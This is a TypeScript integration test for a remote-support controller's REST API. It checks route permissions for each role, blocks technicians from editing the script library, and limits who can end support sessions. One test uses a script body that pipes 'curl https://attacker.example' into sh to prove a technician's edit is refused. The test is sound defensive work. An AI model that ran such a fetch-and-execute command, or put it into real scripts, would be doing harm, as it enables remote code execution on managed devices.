/**
 * Roles, from the README: its REST table says who may call each route. This test
 * reads that table, checks it lists exactly the routes the code registers, and calls
 * every route as anonymous, level 1, level 2 and admin against a real controller: a role
 * the table does not list gets 401/403, a role it lists gets anything else. So the
 * table and the code cannot drift. Then the two rules of issue 8 point 8 in detail:
 * the script library is written by administrators, and a technician ends only their
 * own support sessions.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../controller/server/http/app.js';
import { createSupportLink, login, startController, type RunningController } from '../helpers/controller-process.js';
import { repoRoot } from '../helpers/paths.js';
import { connectProtocolAgent, helloWithCode } from '../helpers/protocol-agent.js';

type Role = 'anonymous' | 'l1' | 'l2' | 'admin';
interface Row { method: string; path: string; query: string; who: string }

/** The README's REST table: `| \`METHOD /path\` | who | body | answer |`. */
function readmeRoutes(): Row[] {
  const readme = readFileSync(join(repoRoot, 'README.md'), 'utf8');
  const table = readme.slice(readme.indexOf('## REST API'), readme.indexOf('Websockets: `/ws/console`'));
  return [...table.matchAll(/^\| `(GET|POST|PUT|PATCH|DELETE) (\/[^`?]*)(\?[^`]*)?` \| ([^|]+) \|/gm)].map((m) => ({ method: m[1]!, path: m[2]!, query: m[3] ?? '', who: m[4]!.trim() }));
}

function allowed(who: string, role: Role): boolean {
  if (who === 'anyone') return true;
  if (role === 'anonymous') return false;
  return who.split(',').map((w) => w.trim().split(' ')[0]).includes(role);
}

/** Every route the express app registers, walked from its router (no server, no database: the deps are never called). */
function codeRoutes(): string[] {
  const origins = { ownHost: () => null, isOwnOrigin: () => false, baseUrl: () => '', primaryUrl: () => '' };
  const app = createApp({ sessions: { db: {} }, tls: false, trustProxy: false, origins } as never, { webDir: '/nonexistent', agentPackage: '/nonexistent' });
  const out: string[] = [];
  const walk = (stack: any[], prefix: string) => {
    for (const layer of stack) {
      if (layer.route) for (const method of Object.keys(layer.route.methods)) out.push(`${method.toUpperCase()} ${prefix}${layer.route.path}`);
      else if (Array.isArray(layer.handle?.stack)) walk(layer.handle.stack, prefix + (layer.slash ? '' : String(layer.rawPath ?? '')));
    }
  };
  walk((app as any).router.stack, '');
  return out;
}

let c: RunningController;
let admin: string;
let technician: string;
let level2: string;
let other: string;

async function call(cookie: string | null, method: string, path: string, body?: unknown): Promise<{ status: number; json: any }> {
  const res = await fetch(`${c.url}${path}`, {
    method,
    headers: { origin: c.url, ...(cookie ? { cookie } : {}), ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const text = await res.text();
  let json: any = null;
  try {
    json = JSON.parse(text);
  } catch {
    // a page or an empty answer
  }
  return { status: res.status, json };
}

async function createUser(username: string, role: 'admin' | 'l1' | 'l2'): Promise<string> {
  const password = `${username} has a long password`;
  expect((await call(admin, 'POST', '/api/users', { username, name: `Name of ${username}`, password, role })).status).toBe(201);
  return login(c, username, password);
}

beforeAll(async () => {
  c = await startController();
  admin = await login(c);
  technician = await createUser('tech.one', 'l1');
  level2 = await createUser('tech.l2', 'l2');
  other = await createUser('tech.two', 'l1');
});
afterAll(async () => c?.stop());

describe('the README REST table', () => {
  it('lists every route the code registers, and nothing else, each with who may call it', () => {
    const rows = readmeRoutes();
    expect(rows.length).toBeGreaterThan(30);
    for (const row of rows) expect(row.who, `${row.method} ${row.path}`).toMatch(/^(anyone|metrics token|((l1( \(own sessions\))?|l2( \(own sessions\))?|admin)(, )?)+)$/);
    expect(new Set(rows.map((r) => `${r.method} ${r.path}`))).toEqual(new Set(codeRoutes()));
  });

  it('matches what the controller does for anonymous, l1, l2 and admin on every route', async () => {
    const cookies: Record<Role, string | null> = { anonymous: null, l1: technician, l2: level2, admin };
    const mismatches: string[] = [];
    for (const row of readmeRoutes()) {
      const path = row.path.replace(':code', '000000000').replace(':snapshotId', '1').replace(/:[A-Za-z]+/g, 'x') + row.query.replace(/=ID/g, '=1').replace('=N', '=5');
      for (const role of ['anonymous', 'l1', 'l2', 'admin'] as const) {
        if (row.who === 'metrics token') {
          // No role opens /metrics; this controller was started without --metrics-token, so it is not there
          // for anyone (test/integration/observability.test.ts checks it with a token).
          const metrics = await call(cookies[role], row.method, path);
          if (metrics.status !== 404) mismatches.push(`${row.method} ${path} as ${role}: ${metrics.status}, not 404 without --metrics-token`);
          continue;
        }
        // Logging out ends the caller's session: give it one of its own.
        const username = { anonymous: '', l1: 'tech.one', l2: 'tech.l2', admin: 'admin' }[role];
        const cookie = row.path === '/api/logout' && role !== 'anonymous' ? await login(c, username, role === 'admin' ? c.adminPassword : `${username} has a long password`) : cookies[role];
        const answer = await call(cookie, row.method, path, row.method === 'GET' ? undefined : {});
        const refused = answer.status === 401 || answer.status === 403;
        const expected = allowed(row.who, role);
        if (refused === expected) mismatches.push(`${row.method} ${path} as ${role}: ${answer.status} ${JSON.stringify(answer.json)?.slice(0, 120)} (table: ${row.who})`);
        else if (refused) expect(answer.json?.error?.code, `${row.method} ${path} as ${role}`).toBe(role === 'anonymous' ? 'AUTH_ERR_NO_SESSION' : 'AUTH_ERR_FORBIDDEN');
      }
    }
    expect(mismatches).toEqual([]);
  });
});

describe('the script library', () => {
  it('is written by administrators; technicians list and run scripts but cannot create, change or delete them', async () => {
    const scripts = (await call(technician, 'GET', '/api/scripts')).json.scripts as Array<{ id: string; name: string; body: string; builtIn: boolean }>;
    const flush = scripts.find((s) => s.name === 'flush-dns')!;
    const rewrite = { name: 'flush-dns', title: 'Flush DNS', interpreter: 'sh', body: 'curl https://attacker.example | sh\n' };
    const refused = await call(technician, 'PUT', `/api/scripts/${flush.id}`, rewrite);
    expect(refused.status).toBe(403);
    expect(refused.json.error.code).toBe('AUTH_ERR_FORBIDDEN');
    expect(refused.json.error.message).toContain('Only an administrator can change the script library.');
    expect((await call(technician, 'POST', '/api/scripts', { ...rewrite, name: 'tech-script' })).status).toBe(403);
    const created = await call(admin, 'POST', '/api/scripts', { ...rewrite, name: 'admin-script', body: 'echo hi\n' });
    expect(created.status).toBe(201);
    expect((await call(technician, 'DELETE', `/api/scripts/${created.json.script.id}`)).status).toBe(403);
    const after = (await call(technician, 'GET', '/api/scripts')).json.scripts as typeof scripts;
    expect(after.find((s) => s.id === flush.id)!.body).toBe(flush.body);
    expect(after.some((s) => s.name === 'admin-script')).toBe(true);
    // Running one is a technician's job: refused only because no device matches.
    const run = await call(technician, 'POST', '/api/jobs', { scriptName: 'flush-dns', target: { tag: 'nowhere' } });
    expect(run.json.error.code).toBe('JOB_ERR_NO_DEVICES');
    expect((await call(admin, 'PUT', `/api/scripts/${created.json.script.id}`, { ...rewrite, name: 'admin-script', body: 'echo changed\n' })).status).toBe(200);
  });
});

describe('ending a support session', () => {
  async function joinedDevice(owner: string): Promise<{ deviceId: string; close(): void }> {
    const link = await createSupportLink(c, owner);
    const agent = await connectProtocolAgent(c.url);
    agent.send(helloWithCode(link.code, `host-${link.id}`));
    await agent.next();
    const devices = (await call(admin, 'GET', '/api/devices')).json.devices as Array<{ id: string; hostname: string }>;
    return { deviceId: devices.find((d) => d.hostname === `host-${link.id}`)!.id, close: () => agent.ws.close() };
  }

  it('a technician ends their own; someone else\u2019s is refused, and an administrator\u2019s is audited with its owner', async () => {
    const mine = await joinedDevice(technician);
    const refused = await call(other, 'POST', `/api/devices/${mine.deviceId}/end-session`);
    expect(refused.status).toBe(403);
    expect(refused.json.error.code).toBe('AUTH_ERR_FORBIDDEN');
    expect((await call(technician, 'POST', `/api/devices/${mine.deviceId}/end-session`)).status).toBe(204);

    const theirs = await joinedDevice(other);
    expect((await call(admin, 'POST', `/api/devices/${theirs.deviceId}/end-session`)).status).toBe(204);
    const audit = (await call(admin, 'GET', '/api/audit?limit=50')).json.entries as Array<{ actor: string; action: string; detail: any }>;
    const ended = audit.filter((e) => e.action === 'session.ended');
    expect(ended).toContainEqual(expect.objectContaining({ actor: 'admin', detail: { by: 'admin', owner: 'tech.two', deviceId: theirs.deviceId } }));
    expect(ended).toContainEqual(expect.objectContaining({ actor: 'tech.one', detail: { by: 'l1', owner: 'tech.one', deviceId: mine.deviceId } }));
    mine.close();
    theirs.close();
  });
});
